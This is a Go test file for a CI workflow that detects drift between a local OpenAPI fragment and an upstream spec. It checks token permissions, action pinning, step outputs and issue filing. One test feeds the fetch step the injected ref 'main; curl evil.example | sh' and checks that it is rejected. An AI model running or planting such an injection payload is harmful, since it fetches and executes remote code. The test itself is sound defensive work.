package main

import (
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/certcontract/certcontract/openapi/drift/internal/workflowtest"
)

// The scheduled drift workflow is mostly shell around make spec-fetch, make
// spec-check and the gh CLI. These tests run its steps' scripts with stand-ins
// for make and gh, and check what it may do with its token.

func loadDriftWorkflow(t *testing.T) workflowtest.File {
	t.Helper()
	return workflowtest.Load(t, "spec-drift.yml")
}

var pinnedSHA = regexp.MustCompile(`@[0-9a-f]{40}$`)

func TestDriftWorkflowTokenAndActions(t *testing.T) {
	w := loadDriftWorkflow(t)
	if _, ok := w.On["schedule"]; !ok {
		t.Error("the workflow has no schedule")
	}
	if d, ok := w.On["workflow_dispatch"]; !ok || !strings.Contains(workflowtest.NodeText(t, d), "ref") {
		t.Error("the workflow cannot be run by hand with an upstream ref")
	}
	workflowtest.CheckPermissions(t, w, map[string]map[string]string{
		"check": {"contents": "read"},
		"issue": {"issues": "write"},
	})
	for name, job := range w.Jobs {
		for _, s := range job.Steps {
			// GitHub's own actions by version, as every workflow here; any
			// other action only pinned to a reviewed commit.
			if s.Uses != "" && !strings.HasPrefix(s.Uses, "actions/") && !pinnedSHA.MatchString(s.Uses) {
				t.Errorf("job %s uses %s, not pinned to a commit", name, s.Uses)
			}
			if s.Uses != "" && name == "issue" {
				t.Errorf("the job that can write issues runs the action %s", s.Uses)
			}
		}
	}
}

func TestDriftWorkflowFetchStep(t *testing.T) {
	step := loadDriftWorkflow(t).Step(t, "check", "download upstream's document")
	path := "/repo/.cache/upstream/openapi-f85dbe2c0123.yaml"
	stdout := filepath.Join(t.TempDir(), "stdout")
	writeFile(t, stdout, []byte(path+"\n"))

	r := workflowtest.Run(t, step, map[string]string{"REF": "", "FAKE_STDOUT": stdout})
	if r.Code != 0 || r.Outputs["path"] != path || r.Outputs["commit"] != "f85dbe2c0123" {
		t.Errorf("exit %d, outputs %v:\n%s", r.Code, r.Outputs, r.Output)
	}
	if len(r.Calls) != 1 || r.Calls[0] != "-s spec-fetch REF=" {
		t.Errorf("make calls %q", r.Calls)
	}

	r = workflowtest.Run(t, step, map[string]string{"REF": "main; curl evil.example | sh"})
	if r.Code == 0 || len(r.Calls) != 0 || strings.Contains(r.Output, "evil") {
		t.Errorf("a ref with shell syntax: exit %d, calls %q, output %s", r.Code, r.Calls, r.Output)
	}

	r = workflowtest.Run(t, step, map[string]string{"REF": "", "FAKE_EXIT": "2"})
	if r.Code == 0 || r.Outputs["path"] != "" {
		t.Errorf("a failed download: exit %d, outputs %v", r.Code, r.Outputs)
	}
}

func TestDriftWorkflowCheckStep(t *testing.T) {
	step := loadDriftWorkflow(t).Step(t, "check", "make spec-check FORMAT=markdown")
	env := func(report string, exit string) map[string]string {
		stdout := filepath.Join(t.TempDir(), "report.md")
		writeFile(t, stdout, []byte(report))
		return map[string]string{"UPSTREAM": "/cache/openapi-f85dbe2c0123.yaml", "COMMIT": "f85dbe2c0123", "REF": "", "FAKE_STDOUT": stdout, "FAKE_EXIT": exit}
	}
	drift := "## Spec drift: `openapi/certificates.yaml` against upstream `openapi-f85dbe2c0123.yaml`\n\n" +
		"**FAIL: 1 unexpected (1 new upstream); 98 expected.**\n\n| a | b |\n| --- | --- |\n| REPORT_0000 | x |\n"
	tests := []struct {
		name, report, exit, status string
	}{
		{"clean", "## Spec drift: x\n\n**OK: the fragment differs from upstream only as the allow-list says (98 expected differences).**\n", "0", "clean"},
		{"drift", drift, "2", "drift"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := workflowtest.Run(t, step, env(tt.report, tt.exit))
			if r.Code != 0 || r.Outputs["status"] != tt.status {
				t.Fatalf("exit %d, status %q, want %q:\n%s", r.Code, r.Outputs["status"], tt.status, r.Output)
			}
			if tt.status == "drift" && r.Outputs["title"] != "Spec drift: 1 unexpected differences from openai/openai-openapi@f85dbe2c0123" {
				t.Errorf("title output %q", r.Outputs["title"])
			}
			if r.Outputs["report"] != strings.TrimSuffix(tt.report, "\n") {
				t.Errorf("report output %q, want the report", r.Outputs["report"])
			}
			if !strings.Contains(r.Summary, tt.report) || !strings.Contains(r.Summary, "openai/openai-openapi@f85dbe2c0123") {
				t.Errorf("summary lacks the report or the commit:\n%s", r.Summary)
			}
			if len(r.Calls) != 1 || r.Calls[0] != "-s spec-check UPSTREAM=/cache/openapi-f85dbe2c0123.yaml FORMAT=markdown" {
				t.Errorf("make calls %q", r.Calls)
			}
		})
	}
	t.Run("no comparison", func(t *testing.T) {
		r := workflowtest.Run(t, step, env("", "2"))
		if r.Code == 0 || r.Outputs["status"] != "" {
			t.Errorf("exit %d, outputs %v: a run that could not compare must fail", r.Code, r.Outputs)
		}
	})
}

func TestDriftWorkflowIssueStep(t *testing.T) {
	// spec-drift files its report through the reusable drift-issue.yml,
	// with these inputs.
	w := loadDriftWorkflow(t)
	if job := w.Jobs["issue"]; job.Uses != "./.github/workflows/drift-issue.yml" || job.With["label"] != "spec-drift" ||
		!strings.Contains(job.With["intro"], "When the upstream spec changes") {
		t.Fatalf("the issue job does not file through drift-issue.yml with the label spec-drift and docs/regeneration.md's steps: %+v", job)
	}
	workflowtest.CheckIssue(t, workflowtest.Caller{
		With: w.Jobs["issue"].With,
		// The inputs as GitHub expands them for this run.
		Expand: strings.NewReplacer("${{ needs.check.outputs.commit }}", "f85dbe2c0123", "${{ github.server_url }}", "https://github.com",
			"${{ github.repository }}", "o/r", "${{ github.run_id }}", "1").Replace,
		Label:            "spec-drift",
		LabelDescription: "openapi/certificates.yaml differs from upstream",
		Title:            "Spec drift: 8 unexpected differences from openai/openai-openapi@f85dbe2c0123",
		Report:           "## Spec drift: `openapi/certificates.yaml` against upstream `openapi-f85dbe2c0123.yaml`\n\n**FAIL: 8 unexpected (4 that break or change the client, 4 new upstream); 98 expected.**\n",
		Clean:            "**OK: ...**",
		Body:             []string{"[openai/openai-openapi@f85dbe2c0123](https://github.com/openai/openai-openapi/blob/f85dbe2c0123/openapi.yaml)", "When the upstream spec changes"},
		Changed:          "The differences changed",
		Closed:           "The check against [openai/openai-openapi@f85dbe2c0123]",
	})
}
